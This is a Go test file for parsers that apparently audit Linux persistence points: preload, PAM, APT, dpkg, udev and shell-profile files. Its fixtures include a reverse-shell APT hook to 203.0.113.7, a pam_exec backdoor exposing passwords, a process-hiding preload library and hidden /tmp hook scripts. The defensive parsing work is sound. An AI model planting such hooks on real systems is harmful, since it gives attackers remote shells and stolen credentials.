package hooks

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

func TestParsePreload(t *testing.T) {
	got := ParsePreload([]byte("/usr/lib/libprocesshider.so\n/lib/a.so:/lib/b.so  /lib/c.so\n\n"))
	want := []Item{{1, "/usr/lib/libprocesshider.so"}, {2, "/lib/a.so"}, {2, "/lib/b.so"}, {2, "/lib/c.so"}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %+v, want %+v", got, want)
	}
}

func TestParseLdConf(t *testing.T) {
	got := ParseLdConf([]byte("include /etc/ld.so.conf.d/*.conf\n# comment\n/usr/local/lib # trailing\n/opt/a:/opt/b,/opt/c=libc6\nhwcap 0 nosegneg\ninclude a.conf b.conf\n"))
	want := []LdConfEntry{
		{1, true, "/etc/ld.so.conf.d/*.conf"},
		{3, false, "/usr/local/lib"},
		{4, false, "/opt/a"}, {4, false, "/opt/b"}, {4, false, "/opt/c"},
		{6, true, "a.conf"}, {6, true, "b.conf"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
}

func TestParsePAM(t *testing.T) {
	tests := []struct {
		name        string
		text        string
		withService bool
		want        []Item
		bad         []int
	}{
		{
			name: "debian common-auth and sshd",
			text: "auth\t[success=1 default=ignore]\tpam_unix.so nullok\n@include common-auth\n# comment\naccount    required     pam_nologin.so\n",
			want: []Item{{1, "auth [success=1 default=ignore] pam_unix.so nullok"}, {2, "@include common-auth"}, {4, "account required pam_nologin.so"}},
		},
		{
			name: "pam_exec backdoor, optional type, continuation, bracket args",
			text: "session optional pam_exec.so quiet /usr/local/bin/.log \\\n  expose_authtok\n-session optional pam_systemd.so\nauth required pam_x.so [arg with  spaces]\n",
			want: []Item{
				{1, "session optional pam_exec.so quiet /usr/local/bin/.log expose_authtok"},
				{3, "-session optional pam_systemd.so"},
				{4, "auth required pam_x.so [arg with spaces]"},
			},
		},
		{
			name: "malformed",
			text: "bogus required pam_x.so\nauth required\nauth [unclosed pam_x.so\n@include\n",
			bad:  []int{1, 2, 3, 4},
		},
		{
			name:        "pam.conf",
			text:        "sshd auth required pam_unix.so\nother  account  required pam_deny.so # no\n",
			withService: true,
			want:        []Item{{1, "sshd auth required pam_unix.so"}, {2, "other account required pam_deny.so"}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := ParsePAM([]byte(tt.text), tt.withService)
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got  %+v\nwant %+v", got, tt.want)
			}
			checkBad(t, err, tt.bad)
		})
	}
}

func checkBad(t *testing.T, err error, bad []int) {
	t.Helper()
	if bad == nil {
		if err != nil {
			t.Errorf("unexpected error %v", err)
		}
		return
	}
	var le *LineError
	if !errors.As(err, &le) {
		t.Fatalf("error %v, want *LineError", err)
	}
	if !reflect.DeepEqual(le.Lines, bad) {
		t.Errorf("bad lines %v, want %v", le.Lines, bad)
	}
}

func TestParseAptConf(t *testing.T) {
	tests := []struct {
		name  string
		text  string
		hooks []AptItem
		bad   []int
	}{
		{
			name:  "debian 20listchanges",
			text:  "DPkg::Pre-Install-Pkgs { \"/usr/bin/apt-listchanges --apt || test $? -lt 10\"; };\n",
			hooks: []AptItem{{1, "DPkg::Pre-Install-Pkgs", "/usr/bin/apt-listchanges --apt || test $? -lt 10"}},
		},
		{
			name: "nested blocks, comments, list append, case",
			text: "// header\n/* block\n comment */\nAPT {\n  Update {\n    Pre-Invoke { \"bash -c 'sh -i >& /dev/tcp/203.0.113.7/443 0>&1' &\"; };\n  };\n};\n# hash comment\ndpkg::post-invoke:: \"/tmp/.p\";\nAPT::Periodic::Enable \"1\";\nDPkg::Options { \"--force-confdef\"; \"--post-invoke=/tmp/.q\"; };\n#include \"/etc/other.conf\";\nAcquire::http::Proxy-Auto-Detect \"/usr/local/bin/.proxy\";\n",
			hooks: []AptItem{
				{6, "APT::Update::Pre-Invoke", "bash -c 'sh -i >& /dev/tcp/203.0.113.7/443 0>&1' &"},
				{10, "dpkg::post-invoke", "/tmp/.p"},
				{12, "DPkg::Options", "--post-invoke=/tmp/.q"},
				{14, "Acquire::http::Proxy-Auto-Detect", "/usr/local/bin/.proxy"},
			},
		},
		{
			name:  "unclosed block and string",
			text:  "DPkg::Post-Invoke { \"a\";\n\"unclosed;\n",
			hooks: []AptItem{{1, "DPkg::Post-Invoke", "a"}},
			bad:   []int{2, 2},
		},
		{
			name:  "stray brace",
			text:  "};\nAPT::Update::Post-Invoke-Success { \"x\"; };\n",
			hooks: []AptItem{{2, "APT::Update::Post-Invoke-Success", "x"}},
			bad:   []int{1},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			items, err := ParseAptConf([]byte(tt.text))
			if got := AptHooks(items); !reflect.DeepEqual(got, tt.hooks) {
				t.Errorf("hooks\n got  %+v\n want %+v\n(all %+v)", got, tt.hooks, items)
			}
			checkBad(t, err, tt.bad)
		})
	}
}

func TestParseDpkgCfg(t *testing.T) {
	got := ParseDpkgCfg([]byte("# dpkg.cfg\nno-debsig\nlog /var/log/dpkg.log\npost-invoke=/tmp/.x\n--pre-invoke /bin/y\n"))
	want := []Item{{4, "/tmp/.x"}, {5, "/bin/y"}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got %+v, want %+v", got, want)
	}
}

func TestParseUdevRules(t *testing.T) {
	text := `# comment
ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c '/tmp/.u &'"
KERNEL=="sd*", PROGRAM=="/lib/udev/scsi_id -g $devnode", RESULT=="x", \
  IMPORT{program}="/usr/bin/probe $devnode", RUN{builtin}+="kmod load $env{MODALIAS}"
SUBSYSTEM=="net", IMPORT{file}="/etc/x", RUN-="/bin/removed", ENV{X}!="a"
KERNEL=="x", RUN+=unquoted
ATTR{name}=="a \"q\"", RUN:=e"/bin/esc"
`
	pairs, err := ParseUdevRules([]byte(text))
	got := UdevPrograms(pairs)
	want := []UdevPair{
		{2, "RUN", "", "+=", "/bin/sh -c '/tmp/.u &'"},
		{3, "PROGRAM", "", "==", "/lib/udev/scsi_id -g $devnode"},
		{3, "IMPORT", "program", "=", "/usr/bin/probe $devnode"},
		{3, "RUN", "builtin", "+=", "kmod load $env{MODALIAS}"},
		{7, "RUN", "", ":=", "/bin/esc"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
	if pairs[len(pairs)-2].Value != `a "q"` {
		t.Errorf("escaped quote: %+v", pairs[len(pairs)-2])
	}
	checkBad(t, err, []int{6})
}

func TestRedactAndProfile(t *testing.T) {
	tests := []struct{ in, want string }{
		{"export DB_PASSWORD=\"hunter2\"", "export DB_PASSWORD=[redacted]"},
		{"export GITHUB_TOKEN = ghp_abc", "export GITHUB_TOKEN =[redacted]"},
		{"mysql --password=x -u root", "mysql --password=[redacted]"},
		{"AWS_SECRET_ACCESS_KEY=abc", "AWS_SECRET_ACCESS_KEY=[redacted]"},
		{"PASSWD=x; other=1", "PASSWD=[redacted]"},
		{"API-KEY=1", "API-KEY=[redacted]"},
		{"alias ll='ls -l'", "alias ll='ls -l'"},
	}
	for _, tt := range tests {
		if got := Redact(tt.in); got != tt.want {
			t.Errorf("Redact(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	text := "# comment\n\n  alias ll='ls -l'  \nexport API_KEY=sk-live-123\n" + strings.Repeat("x", 600) + "\n" + strings.Repeat("echo\n", 300)
	items, more := ProfileLines([]byte(text))
	if !more || len(items) != MaxProfileLines {
		t.Fatalf("%d items, more=%v", len(items), more)
	}
	if items[0] != (Item{3, "alias ll='ls -l'"}) || items[1] != (Item{4, "export API_KEY=[redacted]"}) || len(items[2].Value) != MaxProfileLine {
		t.Errorf("items %+v %+v %d", items[0], items[1], len(items[2].Value))
	}
}

func FuzzParsePAM(f *testing.F) {
	f.Add([]byte("auth\t[success=1 default=ignore]\tpam_unix.so nullok\n@include common-auth\n"), false)
	f.Add([]byte("sshd session optional pam_exec.so /x \\\n y\n"), true)
	f.Add([]byte("[\\]\n-auth [ a pam\\\n"), false)
	f.Fuzz(func(t *testing.T, data []byte, withService bool) {
		items, err := ParsePAM(data, withService)
		var le *LineError
		if err != nil && !errors.As(err, &le) {
			t.Fatalf("error type %T", err)
		}
		for _, it := range items {
			if it.Value == "" || strings.ContainsAny(it.Value, "\n#") || len(it.Value) > MaxValue {
				t.Fatalf("bad item %+v", it)
			}
		}
	})
}

func FuzzParseAptConf(f *testing.F) {
	f.Add([]byte("DPkg::Pre-Install-Pkgs { \"/usr/bin/apt-listchanges --apt || test $? -lt 10\"; };\n"))
	f.Add([]byte("APT { Update { Post-Invoke { \"x\"; }; }; };\n/* c */ // c\n# c\n#include \"x\";\nA::B:: \"c\";\n"))
	f.Add([]byte("{{{{}}}};;\"\n/*"))
	f.Fuzz(func(t *testing.T, data []byte) {
		items, err := ParseAptConf(data)
		var le *LineError
		if err != nil && !errors.As(err, &le) {
			t.Fatalf("error type %T", err)
		}
		n := strings.Count(string(data), "\n") + 1
		for _, it := range items {
			if it.Key == "" || it.Line < 1 || it.Line > n {
				t.Fatalf("bad item %+v (of %d lines)", it, n)
			}
		}
		for _, h := range AptHooks(items) {
			if h.Value == "" {
				t.Fatalf("empty hook %+v", h)
			}
		}
	})
}

func FuzzParseUdevRules(f *testing.F) {
	f.Add([]byte("ACTION==\"add\", RUN+=\"/bin/x\"\nKERNEL==\"sd*\", \\\n IMPORT{program}=\"y\"\n"))
	f.Add([]byte("A{=\"\nB==e\"\\\"\"\nC"))
	f.Fuzz(func(t *testing.T, data []byte) {
		pairs, _ := ParseUdevRules(data)
		for _, p := range pairs {
			if p.Key == "" || p.Op == "" || len(p.Value) > MaxValue {
				t.Fatalf("bad pair %+v", p)
			}
		}
		UdevPrograms(pairs)
	})
}

func FuzzLoaderFiles(f *testing.F) {
	f.Add([]byte("include /etc/ld.so.conf.d/*.conf\n/usr/local/lib\n"))
	f.Add([]byte("/lib/x.so:/lib/y.so\n# not a comment for the loader\n"))
	f.Add([]byte("pre-invoke=/x\nexport TOKEN=abc\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, it := range ParsePreload(data) {
			if it.Value == "" || strings.ContainsAny(it.Value, " \t\n:") {
				t.Fatalf("bad preload %+v", it)
			}
		}
		for _, e := range ParseLdConf(data) {
			if e.Value == "" || strings.ContainsAny(e.Value, "\n#") {
				t.Fatalf("bad ldconf %+v", e)
			}
		}
		ParseDpkgCfg(data)
		items, _ := ProfileLines(data)
		if len(items) > MaxProfileLines {
			t.Fatalf("%d lines", len(items))
		}
		for _, it := range items {
			if len(it.Value) > MaxProfileLine || secretAssignment.MatchString(strings.TrimSuffix(it.Value, "[redacted]")) && !strings.HasSuffix(it.Value, "[redacted]") {
				t.Fatalf("bad profile line %q", it.Value)
			}
		}
	})
}
